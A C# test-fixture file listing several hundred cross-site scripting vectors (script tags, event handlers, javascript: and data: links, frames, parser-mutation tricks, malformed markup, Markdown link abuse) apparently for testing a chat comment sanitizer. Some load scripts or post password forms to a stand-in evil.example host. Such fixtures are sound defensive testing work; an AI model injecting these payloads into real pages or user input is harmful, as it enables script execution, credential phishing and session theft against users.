namespace LiveTalk.Text.Tests.Html;

/// <summary>Ways to smuggle a script, a request or a disguise into a comment, one of each known kind.</summary>
internal static class XssVectors
{
    public static readonly string[] Scripts =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\n>alert(1)</script\t>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/src=data:,alert(1)>", "<script type=module>import('//evil.example')</script>", "<<script>alert(1);//<</script>", "<script>alert(1)",
        "</script><script>alert(1)</script>", "<script x=\">\">alert(1)</script>", "<script>/*</script><b onclick=alert(1)>*/", "<%00script>alert(1)</%00script>",
        "<scr\0ipt>alert(1)</scr\0ipt>", "\u0000<script>alert(1)</script>", "<script ~~~>alert(1)</script ~~~>", "<script><!--<script></script>alert(1)//--></script>",
        "<ScRiPt>alert(1)</sCrIpT>", "<script charset=utf-7>+ADw-script+AD4-alert(1)</script>", "＜script＞alert(1)＜/script＞", "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ];

    public static readonly string[] Handlers =
    [
        "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert(1)\" alt=words>", "<img/src=x/onerror=alert(1)>", "<b onmouseover=alert(1)>x</b>",
        "<p onclick = alert(1)>x</p>", "<a href=https://ok.example onclick=alert(1)>x</a>", "<body onload=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
        "<details open ontoggle=alert(1)>x</details>", "<video src=x onerror=alert(1)></video>", "<audio src onloadstart=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x</select>", "<textarea autofocus onfocus=alert(1)>x", "<keygen autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
        "<div onpointerrawupdate=alert(1)>x</div>", "<p style=animation-name:x onanimationstart=alert(1)>x</p>", "<blockquote cite=https://ok.example onwheel=alert(1)>x</blockquote>",
        "<q cite=\"https://ok.example\"onmouseenter=alert(1)>x</q>", "<abbr title=\"x\"\"onclick=alert(1)\">x</abbr>", "<b \u000Bonclick=alert(1)>x</b>", "<b/onclick=alert(1)>x</b>",
        "<a href='x'onclick='alert(1)'>x</a>", "<button onclick=alert(1) popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>y", "<x contenteditable onblur=alert(1)>x</x>",
        "<custom-element onclick=alert(1)>x</custom-element>", "<b ONCLICK=alert(1)>x</b>", "<b on\u0000click=alert(1)>x</b>", "<span class=mention data-id=x onclick=alert(1)>@x</span>",
    ];

    public static readonly string[] Links =
    [
        "<a href=javascript:alert(1)>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>", "<a href='java&#10;script:alert(1)'>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='&#0000106&#0000097vascript:alert(1)'>x</a>", "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>", "<a href='javascript&colon;alert(1)'>x</a>", "<a href='javascript&NewLine;:alert(1)'>x</a>",
        "<a href='\u0001javascript:alert(1)'>x</a>", "<a href='\u00A0javascript:alert(1)'>x</a>", "<a href='javascript\u2028:alert(1)'>x</a>", "<a href='javascript://https://ok.example/%0Aalert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<a href='DATA:image/svg+xml,<svg onload=alert(1)>'>x</a>", "<a href=vbscript:msgbox(1)>x</a>",
        "<a href='blob:https://ok.example/1'>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='ftp://ok.example/'>x</a>", "<a href='filesystem:https://ok.example/'>x</a>", "<a href='view-source:https://ok.example'>x</a>",
        "<a href='jar:https://ok.example!/x'>x</a>", "<a href='feed:javascript:alert(1)'>x</a>", "<a href='//evil.example/x'>x</a>", "<a href='/\\evil.example'>x</a>", "<a href='\\\\evil.example'>x</a>",
        "<a href='https:\\\\evil.example'>x</a>", "<a href='https:evil.example'>x</a>", "<a href='https:///evil.example'>x</a>", "<a href='https://user:pass@evil.example'>x</a>", "<a href='https://ok.example@evil.example/'>x</a>",
        "<a href='https://ok.example\\@evil.example'>x</a>", "<a href='https://ok.example%2F@evil.example'>x</a>", "<a href='https://'>x</a>", "<a href='https:// evil.example'>x</a>", "<a href='http://[::1'>x</a>",
        "<a href='https://ok.example/\"onclick=alert(1)//'>x</a>", "<a href='https://ok.example/&quot; onclick=&quot;alert(1)'>x</a>", "<a href='https://ok.example/<script>'>x</a>", "<a href=\"https://ok.example/'`><\">x</a>",
        "<a href='mailto:a@b.example?subject=x&body=<script>'>x</a>", "<a href='mailto:a@b.example%0Abcc:all@c.example'>x</a>", "<a href='mailto:javascript:alert(1)'>x</a>", "<a href='tel:123'>x</a>",
        "<a href='https://ok.example' target=_top rel=opener download ping=https://evil.example>x</a>", "<a name=x id=y href=#z>x</a>", "<a href>x</a>", "<a href=''>x</a>", "<a href='?q'>x</a>",
        "<a xlink:href='javascript:alert(1)'>x</a>", "<area href=javascript:alert(1)>", "<q cite=javascript:alert(1)>x</q>", "<blockquote cite='data:text/html,x'>x</blockquote>",
        "<a href='https://ex\u0430mple.example/'>x</a>", "<a href='https://\u202Eok.example/'>x</a>", "<a href='https://ok.example/\u202Egpj.exe'>x</a>", "<img src=javascript:alert(1) alt=x>", "<img src='data:image/gif;base64,R0lGOD' alt=x>",
    ];

    public static readonly string[] Frames =
    [
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">", "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\">",
        "<object data=javascript:alert(1)>x</object>", "<object type=text/html data=//evil.example><b>inside</b></object>", "<embed src=//evil.example/x.swf>", "<applet code=x>x</applet>", "<frameset><frame src=javascript:alert(1)></frameset>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=data:text/html,x>", "<style>@import '//evil.example/x.css';</style>", "<style><img src=\"</style><img src=x onerror=alert(1)>\">", "<p style='background:url(javascript:alert(1))'>x</p>",
        "<div style=position:fixed;inset:0;z-index:9>x</div>", "<b style=\"width:expression(alert(1))\">x</b>", "<form action=javascript:alert(1)><button>x</button></form>", "<form action=//evil.example><input name=password type=password></form>",
        "<button formaction=javascript:alert(1)>x</button>", "<input type=image src=x formaction=javascript:alert(1)>", "<isindex action=javascript:alert(1) type=image>", "<portal src=//evil.example></portal>",
        "<b id=token class=admin name=cookie>x</b>", "<form id=attributes><input name=parentNode></form>", "<slot name=x>y</slot>", "<dialog open>x</dialog>", "<html manifest=//evil.example><head><title><b>t</b></title></head><body><b>x",
    ];

    public static readonly string[] Mutations =
    [
        "<svg><script>alert(1)</script></svg>", "<svg><style><img title=\"</style><img src=x onerror=alert(1)>\"></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1)>",
        "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><annotation-xml encoding=text/html><b onclick=alert(1)>x</b></annotation-xml></math>", "<math href=javascript:alert(1)>x</math>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>", "<table><td><svg><desc><b></td></table><img src=x onerror=alert(1)>",
        "<noscript><style></noscript><img src=x onerror=alert(1)>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>", "<plaintext><img src=x onerror=alert(1)>",
        "<textarea><b title=\"</textarea><img src=x onerror=alert(1)>\">", "<title><b title=\"</title><img src=x onerror=alert(1)>\">", "<p><style><!--</style><img src=x onerror=alert(1)>--></style>", "<select><template><b></select><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->", "<!--><script>alert(1)</script>", "<!-- --!><img src=x onerror=alert(1)> -->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=1.0?><b>x</b>", "<?php echo '<script>alert(1)</script>' ?>", "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;", "<![if true]><b>x</b><![endif]>", "<!ELEMENT b><b>x</b>", "<//b><b onclick=alert(1)//>x",
        "<a href=\"https://ok.example\"><a href=javascript:alert(1)>x</a></a>", "<b><p><i></b>x</i></p>", "<a><table><a>x</table></a>", "<table><b>x<tr><td>y</b></table>", "<ul><b><li>x</b><li>y</ul>", "<p><ul><li></p>x", "<li>alone<li>two",
        "<pre>\n\n<b>x</b></pre>", "<pre><p>x<ul><li>y</pre>z", "<blockquote><li>x</blockquote>", "<p><p><p>x", "</p></b></a></ul>", "<q><blockquote><q>x</q></blockquote></q>", "<br></br>x</br>", "<b></b><i> </i><p></p>",
    ];

    public static readonly string[] Broken =
    [
        "<", "<a", "<a ", "<a href", "<a href=", "<a href=\"", "<a href=\"https://ok.example", "<b", "</", "</b", "<!", "<!-", "<!--", "<![", "<?", "&", "&#", "&#x", "&#x0;", "&#0;", "&#xD800;", "&#1114112;", "&#99999999999;", "&lt", "&ltimg src=x onerror=alert(1)&gt",
        "&amp;&lt&gt;&quot;&apos;&nbsp;&notin;&copy", "\uD800<b>\uDC00</b>", "<b title='\uD800'>x</b>", "\uFEFF<b>x</b>\uFFFE", "<b\u2028onclick=alert(1)>x</b>", "< script>alert(1)</ script>", "<\u0130frame>x", "<ſcript>alert(1)</ſcript>", "<b>a\u202Eb\u2066c</b>",
        "z\u0300\u0301\u0302\u0303<b>\u0304\u0305<i>\u0306</i></b>", "<b a=1 a=2 \"=\" '=' <=< />>x</b>", "<b =x>y</b>", "<b x='<i>'>y</b>", "\"><script>alert(1)</script>", "'-alert(1)-'", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "`${alert(1)}`", "\r\n\t\f\v<b>\f</b>",
    ];

    public static readonly string[] Markdown =
    [
        "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](java&#115;cript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](java\\script:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "[x](https://ok.example \"t\" onclick=alert(1))", "[x](https://ok.example '\" onclick=alert(1) x=\"')", "[x](https://ok.example \"&quot; onclick=&quot;alert(1)\")", "[x](https://ok.example/\"onclick=alert(1))",
        "[x](//evil.example)", "[x](https://user:pw@evil.example)", "[x](\\\\evil.example)", "[x](file:///c:/)", "[<img src=x onerror=alert(1)>](https://ok.example)", "[![x](javascript:alert(1))](javascript:alert(2))", "[a [b](https://b.example) c](https://a.example)",
        "![x](javascript:alert(1))", "![x](https://ok.example/x.png \"t\")", "![\"onerror=alert(1)](https://ok.example/x.png)", "![<script>](data:image/svg+xml,x)", "![]()", "![](https://ok.example/x.png)",
        "[x]: javascript:alert(1)\n\n[x]", "[x]: <javascript:alert(1)> \"t\"\n\n[x][]", "[x]: https://ok.example '\"><script>alert(1)</script>'\n\n[y][x]", "[X]: data:text/html,x\n\n![x]", "<javascript:alert(1)>", "<https://ok.example/<b>>", "<https://ok.example/\"onclick=alert(1)>",
        "<a@b.example>", "<\"><script>@b.example>", "https://ok.example/<script>alert(1)</script>", "https://ok.example/\"onmouseover=alert(1)", "https://ok.example/'onmouseover=alert(1)", "www.ok.example/&lt;script&gt;", "http://a.example.[x](javascript:alert(1))", "https://ok.example/%22%3E%3Cscript%3E",
        "a@b.example<script>alert(1)</script>", "`<script>alert(1)</script>`", "``<img src=x onerror=alert(1)>``", "```html\n<script>alert(1)</script>\n```", "```\"onclick=alert(1)\nx\n```", "~~~<script>\nx\n~~~", "    <script>alert(1)</script>",
        "# <script>alert(1)</script>", "x <b onclick=alert(1)\n>y</b>", "> <script>\nalert(1)\n</script>", "- <img src=x onerror=alert(1)>\n- y", "1. <svg>\n2. <script>alert(1)</script>", "<div>\n*x*\n\n<script>alert(1)</script>\n</div>", "<b>**x</b>**", "**<b>x**</b>",
        "\\<script>alert(1)\\</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<!--\n-->\n<img src=x onerror=alert(1)>", "<![CDATA[\n]]><img src=x onerror=alert(1)>", "<?\n?><script>alert(1)</script>", "<grin onclick=alert(1)> words", "<x:y onclick=alert(1)>", "| <b onclick=alert(1)> |\n|---|\n| <script> |",
        "[x](<https://ok.example/a b>)", "[x](https://ok.example/\u202Ex)", "[\u202Egro.elpmaxe](https://evil.example)", "~~<s onclick=alert(1)>x~~", "[x](mailto:a@b.example?bcc=c@d.example)", "@<script>alert(1)</script>", "@\"onclick=alert(1)",
    ];

    public static IEnumerable<string> All => [.. Scripts, .. Handlers, .. Links, .. Frames, .. Mutations, .. Broken, .. Markdown];
}
